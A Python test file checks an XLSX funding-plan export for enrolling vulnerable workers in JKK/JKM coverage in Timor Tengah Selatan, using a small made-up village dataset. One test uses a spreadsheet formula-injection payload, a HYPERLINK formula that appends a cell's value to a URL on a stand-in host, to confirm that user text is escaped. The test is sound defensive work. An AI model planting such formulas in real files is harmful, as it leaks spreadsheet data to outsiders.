"""The XLSX funding plan: every cell checked against a plan worked out by hand on a small made-up dataset.

The dataset (period 2025-12, four villages of Kecamatan 53.02.05, Kab. Timor Tengah Selatan):

=============== ========= ======== ====== ========== ==========
village          kind      employed active vulnerable covered
=============== ========= ======== ====== ========== ==========
53.02.05.2001    desa      600      150    200        50   → 150 to enrol
53.02.05.2002    desa      400      50     100        40   →  60
53.02.05.1010    kelurahan 1,000    300    120        30   →  90
53.02.05.2003    desa      500      100    —          —    → no data
=============== ========= ======== ====== ========== ==========

Kabupaten 53.02: employed 2,500, active 600; vulnerable workers to enrol 300 (2003 has no pair).
Goal "vulnerable", 2026–2028, phasing 50/30/20 % → 150, 90, 60 new (150, 240, 300 covered), JKK + JKM
Rp16,800 × 12 = Rp201,600 per worker a year → cost 30,240,000; 48,384,000; 60,480,000 (total 139,104,000);
coverage (600 + covered) ÷ 2,500: 30%, 33.6%, 36%.
Split apbd_kab 40%, apbdes 25%, bkbk Rp9,000,000 a year: the shares' 65% of each year's cost (19,656,000;
31,449,600; 39,312,000) split 40:25 → apbd_kab 12,096,000 / 19,353,600 / 24,192,000, apbdes 7,560,000 /
12,096,000 / 15,120,000; unfunded 1,584,000 / 7,934,400 / 12,168,000 (total 21,686,400).
Burden in 2028: APBDes 15,120,000 over desa 2001 (150) and 2002 (60) → 10,800,000 and 4,320,000 (the
kelurahan gets no Dana Desa); BKBK 9,000,000 over 2001, 2002, 1010 (150, 60, 90) → 4,500,000, 1,800,000,
2,700,000. Village budget Rp200,000,000, 5% allowed → limit 10,000,000: only 2001's APBDes is above it.
"""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from ucj_dash.analysis import funding
from ucj_dash.datasets import figures, store
from ucj_dash.datasets.composition import Composition
from ucj_dash.datasets.dataset import DatasetMeta
from ucj_dash.exports import planbook
from ucj_dash.geography.regions import Level

NAN = np.nan
GROUPS = ("participants", "workers", "vulnerable", "officials")
EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
RUPIAH = "#,##0"

YEARS = [2026, 2027, 2028]
NEW = [150, 90, 60]
COVERED = [150, 240, 300]
COST = [30_240_000, 48_384_000, 60_480_000]
COVERAGE = [30.0, 33.6, 36.0]
APBD_KAB = [12_096_000, 19_353_600, 24_192_000]
APBDES = [7_560_000, 12_096_000, 15_120_000]
BKBK = [9_000_000] * 3
UNFUNDED = [1_584_000, 7_934_400, 12_168_000]
TOTAL = 139_104_000


def rows(simulated: bool = True, dataset_id: str = "buku-uji") -> tuple[DatasetMeta, pd.DataFrame]:
    frame = pd.DataFrame({
        "region_code": ["53.02.05.2001", "53.02.05.2002", "53.02.05.1010", "53.02.05.2003"],
        "period": ["2025-12"] * 4,
        "employed_workers": [600.0, 400.0, 1000.0, 500.0],
        "active_participants": [150.0, 50.0, 300.0, 100.0],
        "vulnerable_workers": [200.0, 100.0, 120.0, NAN],
        "vulnerable_covered": [50.0, 40.0, 30.0, NAN],
    })
    meta = DatasetMeta(id=dataset_id, name="Buku uji <perencana>", source="uji tangan", as_of="2025-12", simulated=simulated)
    return meta, frame


@pytest.fixture(scope="module")
def ds(tmp_path_factory):
    with pytest.MonkeyPatch.context() as m:
        m.setenv("UCJ_DATA_DIR", str(tmp_path_factory.mktemp("planbook") / "data"))
        figures.forget()
        meta, frame = rows()
        store.save(meta, frame)
        real_meta, real_frame = rows(simulated=False, dataset_id="buku-resmi")
        store.save(real_meta, real_frame)
        yield {
            "sim": figures.load(Composition.of({g: meta.id for g in GROUPS})),
            "real": figures.load(Composition.of({g: real_meta.id for g in GROUPS})),
        }
    figures.forget()


def make(ds, registry, which="sim", **kw):
    args = {"code": "53.02", "goal": "vulnerable", "years": "2026-2028", "phasing": "50,30,20",
            "split": "apbd_kab=40,apbdes=25,bkbk=Rp9.000.000", "village_budget_rp": 200_000_000,
            "village_budget_source": "APBDes TTS 2025 (uji)", "budget_share_pct": 5, **kw}
    return funding.plan(ds[which], registry, args.pop("code"), args.pop("goal"), args.pop("years"), **args)


@pytest.fixture(scope="module")
def plan(ds, registry):
    return make(ds, registry)


@pytest.fixture(scope="module")
def book(ds, registry, plan):
    return load_workbook(io.BytesIO(planbook.plan_xlsx(plan, ds["sim"], registry, "id")))


def table(ws, header_row: int = planbook.HEADER_ROW) -> tuple[list[str], list[list]]:
    """The header at ``header_row`` and the rows below it up to the first empty row."""
    header = [c.value for c in ws[header_row]]
    out = []
    for r in range(header_row + 1, ws.max_row + 1):
        values = [c.value for c in ws[r]]
        if all(v is None for v in values):
            break
        out.append(values)
    return header, out


def find_row(ws, first: str) -> int:
    for r in range(1, ws.max_row + 1):
        if ws.cell(row=r, column=1).value == first:
            return r
    raise AssertionError(f"no row starting with {first!r} in {ws.title}")


# ------------------------------------------------------------------ the plan the workbook is checked against


def test_the_plan_is_the_hand_computed_one(plan):
    assert plan.workers_to_enrol == 300
    assert [y.new_workers for y in plan.by_year] == NEW and [y.workers for y in plan.by_year] == COVERED
    assert [y.cost_rupiah for y in plan.by_year] == COST and plan.cost_total_rupiah == TOTAL
    assert [y.coverage_pct for y in plan.by_year] == pytest.approx(COVERAGE)
    assert [y.by_source["apbd_kab"] for y in plan.by_year] == APBD_KAB
    assert [y.by_source["apbdes"] for y in plan.by_year] == APBDES
    assert [y.unfunded_rupiah for y in plan.by_year] == UNFUNDED and plan.unfunded_rupiah == sum(UNFUNDED)


# ------------------------------------------------------------------ sheets


def test_five_sheets_in_both_languages(ds, registry, plan, book):
    assert book.sheetnames == ["Masukan", "Per tahun", "Per sumber", "Beban per desa", "Sumber"]
    english = load_workbook(io.BytesIO(planbook.plan_xlsx(plan, ds["sim"], registry, "en")))
    assert english.sheetnames == ["Inputs", "By year", "By source", "Village burden", "Sources"]
    assert english["By year"]["A4"].value == "Year"


def test_by_year_sheet_holds_the_hand_computed_figures(book, plan):
    ws = book["Per tahun"]
    header, body = table(ws)
    assert header == ["Tahun", "Pekerja baru (orang)", "Pekerja terlindungi oleh rencana, kumulatif (orang)",
                      "Biaya tahun ini (Rp)", "Cakupan UCJ tercapai (%)", "APBD kabupaten/kota (Rp)",
                      "APBDes (anggaran desa) (Rp)", "BKBK (bantuan keuangan provinsi ke desa) (Rp)",
                      "Belum terdanai (Rp)", "Kelebihan dana (Rp)"]
    years, total = body[:3], body[3]
    assert [r[0] for r in years] == YEARS
    assert [r[1] for r in years] == NEW and [r[2] for r in years] == COVERED
    assert [r[3] for r in years] == COST
    assert [r[4] for r in years] == pytest.approx(COVERAGE)
    assert [r[5] for r in years] == APBD_KAB and [r[6] for r in years] == APBDES and [r[7] for r in years] == BKBK
    assert [r[8] for r in years] == UNFUNDED and [r[9] for r in years] == [0, 0, 0]
    assert total == ["Jumlah", 300, None, TOTAL, None, sum(APBD_KAB), sum(APBDES), sum(BKBK), sum(UNFUNDED), 0]
    # rupiah are whole numbers with thousands separators, persons too; coverage in percent
    for r in range(5, 9):
        for c in (4, 6, 7, 8, 9):
            cell = ws.cell(row=r, column=c)
            assert isinstance(cell.value, int) and cell.number_format == RUPIAH, (r, c)
        assert ws.cell(row=r, column=2).number_format == "#,##0"
    assert ws.cell(row=5, column=5).number_format == "0.00"
    notes = [ws.cell(row=r, column=1).value for r in range(9, ws.max_row + 1)]
    assert next(n["id"] for n in plan.notes if n["key"] == "plan.note.unfunded") in notes
    assert any(str(n).startswith("Belum didanai: Rp 21.686.400") for n in notes)


def test_by_source_sheet_totals_shares_and_unfunded(book):
    ws = book["Per sumber"]
    header, body = table(ws)
    assert header[:2] == ["Sumber dana", "Kunci"] and header[3:] == ["Jumlah semua tahun (Rp)", "Bagian dari total biaya (%)"]
    by_key = {r[1]: r for r in body}
    assert by_key["apbd_kab"][3] == 55_641_600 and by_key["apbd_kab"][4] == pytest.approx(40.0)
    assert by_key["apbdes"][3] == 34_776_000 and by_key["apbdes"][4] == pytest.approx(25.0)
    assert by_key["bkbk"][3] == 27_000_000 and by_key["bkbk"][4] == pytest.approx(27_000_000 / TOTAL * 100)
    assert by_key["unfunded"][3] == 21_686_400 and by_key["unfunded"][4] == pytest.approx(21_686_400 / TOTAL * 100)
    assert by_key["overfunded"][3] == 0
    assert by_key["cost_total"][3] == TOTAL and by_key["cost_total"][4] == pytest.approx(100.0)
    assert sum(by_key[k][3] for k in ("apbd_kab", "apbdes", "bkbk", "unfunded")) == TOTAL
    assert by_key["apbd_kab"][2] == "APBD kabupaten/kota: 40,00% dari biaya setiap tahun"
    assert by_key["bkbk"][2] == "BKBK (bantuan keuangan provinsi ke desa): Rp 9.000.000 per tahun (jumlah tetap)"
    assert ws.cell(row=planbook.HEADER_ROW + 1, column=4).number_format == RUPIAH


def test_village_burden_sheet(book, registry):
    ws = book["Beban per desa"]
    _, summary = table(ws)
    summary = [r for r in summary if r[1] is not None]  # the source rows (notes in between have only column A)
    apbdes, bkbk = summary
    desa = [c for c in registry.descendants("53.02", Level.VILLAGE) if registry.kind(c) == "desa"]
    kelurahan = len(registry.descendants("53.02", Level.VILLAGE)) - len(desa)
    assert apbdes[:4] == ["APBDes (anggaran desa)", 15_120_000, 2, len(desa) - 2]
    assert apbdes[4] == f"Kelurahan: {kelurahan}"
    assert apbdes[5:] == [7_560_000, 10_800_000, f"{registry.name('53.02.05.2001')} (53.02.05.2001)", 200_000_000,
                          "APBDes TTS 2025 (uji)", 10_000_000, 1]
    assert bkbk[:4] == ["BKBK (bantuan keuangan provinsi ke desa)", 9_000_000, 3, len(desa) + kelurahan - 3]
    assert bkbk[4] is None and bkbk[5:8] == [3_000_000, 4_500_000, f"{registry.name('53.02.05.2001')} (53.02.05.2001)"]
    assert bkbk[-1] == 0
    head = find_row(ws, "Kode")
    header, villages = table(ws, head)
    assert header[:4] == ["Kode", "Desa/kelurahan", "Jenis", "Pekerja yang didaftarkan (orang)"]
    assert header[4:7] == ["APBDes (anggaran desa): beban per tahun (Rp)", "APBDes (anggaran desa): bagian dari anggaran desa (%)",
                           "APBDes (anggaran desa): melebihi batas?"]
    by_code = {r[0]: r for r in villages}
    assert by_code["53.02.05.2001"][1:10] == [registry.name("53.02.05.2001"), "Desa", 150, 10_800_000, pytest.approx(5.4), "ya",
                                              4_500_000, pytest.approx(2.25), "tidak"]
    assert by_code["53.02.05.2002"][3:10] == [60, 4_320_000, pytest.approx(2.16), "tidak", 1_800_000, pytest.approx(0.9), "tidak"]
    # the kelurahan gets no APBDes (empty cells and a note), and BKBK
    kel = by_code["53.02.05.1010"]
    assert kel[2] == "Kelurahan" and kel[3] == 90 and kel[4:7] == [None, None, None]
    assert kel[7:10] == [2_700_000, pytest.approx(1.35), "tidak"] and "Kelurahan tidak menerima" in kel[10]
    # no data: empty cells, never 0, and which figures are missing
    nodata = by_code["53.02.05.2003"]
    assert nodata[3:10] == [None] * 7 and "tidak ada data (Pekerja rentan" in nodata[10]
    assert all(r[3] is None for code, r in by_code.items() if code not in ("53.02.05.2001", "53.02.05.2002", "53.02.05.1010"))
    assert len(villages) == len(registry.descendants("53.02", Level.VILLAGE))
    over = ws.cell(row=head + 1 + sorted(by_code).index("53.02.05.2001"), column=7)
    assert over.value == "ya" and over.fill.fgColor.rgb.endswith("F8D7DA")


def test_inputs_sheet_every_input_with_units_and_the_settings_with_sources(book):
    ws = book["Masukan"]
    header, body = table(ws)
    assert header == ["Masukan", "Kunci", "Nilai", "Satuan", "Catatan"]
    by_key = {r[1]: r for r in body}
    assert by_key["region"][2] == "53.02" and "Kabupaten Timor Tengah Selatan" in by_key["region"][4]
    assert by_key["goal"][2] == "vulnerable" and by_key["goal"][4] == "Melindungi semua pekerja rentan"
    assert by_key["package"][2] == "jkk-jkm"
    assert by_key["per_worker_monthly_rupiah"][2:4] == [16_800, "Rp per pekerja per bulan"]
    assert by_key["years[0]"][2] == 2026 and by_key["years[1]"][2] == 2028
    assert by_key["period"][2] == "2025-12"
    assert [by_key[f"phasing[{y}]"][2] for y in YEARS] == [50, 30, 20]
    assert by_key["phasing[2026]"][3] == "% pekerja baru"
    assert by_key["split.apbd_kab"][2:4] == [40, "% biaya setiap tahun"]
    assert by_key["split.bkbk"][2:4] == [9_000_000, "Rp per tahun (tetap)"]
    assert by_key["village_budget_rupiah"][2:5] == [200_000_000, "Rp per desa per tahun", "APBDes TTS 2025 (uji)"]
    assert by_key["budget_share_pct"][2] == 5
    start = find_row(ws, "Pengaturan yang dipakai") + 1
    _, settings = table(ws, start)
    by_setting = {r[0]: r for r in settings}
    assert set(by_setting) == {"jkk_bpu_min_rp", "jkm_bpu_rp", "bpu_min_package_rp"}
    assert by_setting["bpu_min_package_rp"][1] == 16_800 and "PP 44/2015" in by_setting["bpu_min_package_rp"][3]
    assert by_setting["bpu_min_package_rp"][4] == "2019"


def test_sources_sheet_names_the_datasets_versions_and_the_simulated_label(ds, book):
    ws = book["Sumber"]
    text = [str(ws.cell(row=r, column=c).value) for r in range(1, ws.max_row + 1) for c in (1, 2)]
    assert "Cakupan pekerja rentan — pembilang: Buku uji <perencana>, Des 2025 (simulasi) · penyebut: Buku uji <perencana>, "\
           "Des 2025 (simulasi)" in text
    assert any(s.startswith("Cakupan UCJ — pembilang: Buku uji <perencana>, Des 2025") for s in text)
    values = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value for r in range(1, ws.max_row + 1)}
    assert values["ID dataset"] == "buku-uji" and values["Versi"] == 1
    assert values["Komposisi sumber data"] == "p:buku-uji,w:buku-uji,v:buku-uji,o:buku-uji"
    assert values["Pembilang (sudah terlindungi)"].startswith("Buku uji <perencana> (buku-uji), periode 2025-12")
    assert "Data simulasi / simulated data" in values["Data simulasi?"]


def test_every_sheet_is_labelled_simulated_and_names_period_and_sources(book):
    for ws in book:
        line = ws["A2"].value
        assert line.startswith("DATA SIMULASI / SIMULATED DATA"), ws.title
        assert "Periode data: 2025-12." in line and "Cakupan pekerja rentan — pembilang: Buku uji <perencana>" in line
        assert ws["A2"].fill.fgColor.rgb.endswith("FFF3CD")
        assert "Sel kosong = tidak ada data (bukan nol)" in ws["A3"].value


def test_real_data_is_not_labelled_simulated(ds, registry):
    p = make(ds, registry, which="real")
    wb = load_workbook(io.BytesIO(planbook.plan_xlsx(p, ds["real"], registry, "en")))
    for ws in wb:
        assert "SIMULATED" not in str(ws["A2"].value) and ws["A2"].value.startswith("Data period: 2025-12.")
    values = {c.value for row in wb["Sources"].iter_rows() for c in row}
    assert not any("Simulated data / data simulasi" in str(v) for v in values)
    assert values >= {"Simulated data?", "no"}


def test_text_from_the_inputs_never_runs_as_a_formula(ds, registry):
    p = make(ds, registry, village_budget_source=EVIL)
    wb = load_workbook(io.BytesIO(planbook.plan_xlsx(p, ds["sim"], registry, "id")))
    cells = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(v.startswith("=") for v in cells)
    assert "'" + EVIL in cells


def test_no_data_plan_is_empty_cells_with_the_reason_never_zero(ds, registry):
    p = make(ds, registry, code="53.02.05.2003")
    assert p.workers_to_enrol is None
    wb = load_workbook(io.BytesIO(planbook.plan_xlsx(p, ds["sim"], registry, "id")))
    for name in ("Per tahun", "Per sumber", "Beban per desa"):
        ws = wb[name]
        body = [[c.value for c in row] for row in ws.iter_rows(min_row=planbook.HEADER_ROW + 1 if name != "Beban per desa"
                                                                 else planbook.HEADER_ROW)]
        flat = [v for row in body for v in row if v is not None]
        assert flat == [p.no_data["reason"]["id"]], (name, flat)
        assert "Pekerja rentan" in flat[0]
    assert not any(c.value == 0 for ws in wb for row in ws.iter_rows() for c in row)


def test_a_plan_without_village_sources_says_so(ds, registry):
    p = make(ds, registry, split="apbd_prov=100", village_budget_rp=None, village_budget_source=None)
    wb = load_workbook(io.BytesIO(planbook.plan_xlsx(p, ds["sim"], registry, "en")))
    ws = wb["Village burden"]
    assert ws.cell(row=planbook.HEADER_ROW, column=1).value.startswith("This plan uses neither APBDes nor BKBK")
    inputs = {r[1]: r for r in table(wb["Inputs"])[1]}
    assert inputs["village_budget_rupiah"][2] is None  # no budget: empty, not 0
    _, body = table(wb["By year"])
    assert [r[5] for r in body[:3]] == COST and [r[6] for r in body[:3]] == [0, 0, 0]


def test_file_name_says_plan_region_period_and_simulated(plan, registry):
    name = planbook.plan_filename(plan, registry, "xlsx", True)
    assert name.startswith("ucj_rencana_kabupaten-timor-tengah-selatan_5302_2025-12_simulasi_") and name.endswith(".xlsx")


def test_download_buttons_make_the_files_only_when_clicked(ds):
    """``ui.exports.plan_export_buttons``: XLSX, PDF and JSON buttons whose files are made on click (deferred)."""
    from streamlit.testing.v1 import AppTest

    def script():
        from ucj_dash import cli
        from ucj_dash.analysis import funding
        from ucj_dash.datasets import figures
        from ucj_dash.datasets.composition import Composition
        from ui.exports import plan_export_buttons

        groups = ("participants", "workers", "vulnerable", "officials")
        figs = figures.load(Composition.of({g: "buku-uji" for g in groups}))
        reg = cli.registry()
        plan = funding.plan(figs, reg, "53.02", "vulnerable", "2026-2028", split="apbdes=50")
        plan_export_buttons(plan, figs, reg, "en", key_prefix="uji")

    at = AppTest.from_function(script, default_timeout=60).run()
    assert not at.exception, at.exception
    buttons = at.get("download_button")
    assert [b.label for b in buttons] == ["Plan (XLSX)", "Plan brief (PDF)", "Plan (JSON)"]
    assert [b.proto.id.rsplit("-", 1)[1] for b in buttons] == ["uji_xlsx", "uji_pdf", "uji_json"]
    assert all(b.proto.deferred_file_id and not b.proto.url for b in buttons)  # nothing made before the click
